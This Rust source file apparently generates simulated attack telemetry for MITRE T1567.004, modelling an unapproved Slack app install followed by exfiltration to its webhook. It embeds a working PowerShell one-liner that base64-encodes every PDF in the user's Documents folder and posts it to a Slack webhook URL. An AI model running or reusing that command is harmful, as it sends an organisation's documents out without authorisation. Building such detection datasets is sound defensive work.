//! T1567.004 through a Slack app: the user installs an app the organisation
//! never approved, asking for `incoming-webhook` (Slack audit log), then a
//! PowerShell script on the user's workstation posts documents to the
//! webhook URL the install gave it.

use super::webhooks::{post, PS_UA};
use super::{home, meta, pick_host, shell, work_time, Meta, Window, MB};
use crate::activity::{Slack, SlackEntity};
use crate::background::slack::EDGE_UA;
use crate::clock::{HOUR, MIN, SEC};
use crate::scene::Scene;
use crate::world::{Os, Role};

const APPS: &[&str] = &["Standup Digest", "Notes Sync", "Quick Export"];

pub fn install_then_post(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[Role::Staff, Role::Developer])?;
    let t = work_time(sc, win, 2 * HOUR);
    let user = sc.w.hosts[h].user;
    let app = *sc.rng.pick(APPS);
    let app_id = format!("A0{}", sc.rng.base62(9).to_uppercase());
    let channel = format!("C0{}", sc.rng.base62(9).to_uppercase());
    sc.slack(
        t,
        Slack {
            user,
            ip: sc.w.hosts[h].ip.clone(),
            user_agent: EDGE_UA,
            action: "app_installed",
            entity: SlackEntity::App {
                id: app_id.clone(),
                name: app,
                scopes: &["incoming-webhook", "chat:write"],
                directory_approved: false,
                channel: Some(channel),
            },
        },
    );
    let at = t + sc.rng.range(10, 30) as i64 * MIN;
    let path = format!(
        "/services/T01CORPEX/B0{}/{}",
        sc.rng.base62(8).to_uppercase(),
        sc.rng.base62(24)
    );
    let ps = shell(sc, h, at, true);
    let docs = format!("{}\\Documents", home(sc, h));
    let script = format!("Get-ChildItem '{docs}' -Filter *.pdf | ForEach-Object {{ $t = [Convert]::ToBase64String([IO.File]::ReadAllBytes($_.FullName)); Invoke-RestMethod -Uri 'https://hooks.slack.com{path}' -Method Post -ContentType 'application/json' -Body (@{{ text = $t }} | ConvertTo-Json) }}");
    sc.script(at + 10 * SEC, &ps, &script);
    let bytes = sc.rng.range(2, 16) * MB;
    let parts = sc.rng.range(4, 12);
    sc.upload(
        at + 11 * SEC,
        h,
        &ps,
        "hooks.slack.com",
        bytes,
        parts,
        8 * SEC,
        post(path, PS_UA),
        443,
    );
    Some(meta(
        sc,
        h,
        format!("unapproved Slack app {app} ({app_id}) installed with incoming-webhook, then PowerShell posts documents to its webhook"),
        "T1567.004",
        "slack-app",
        "webhook",
        "hooks.slack.com",
        "Slack app incoming webhook",
    ))
}
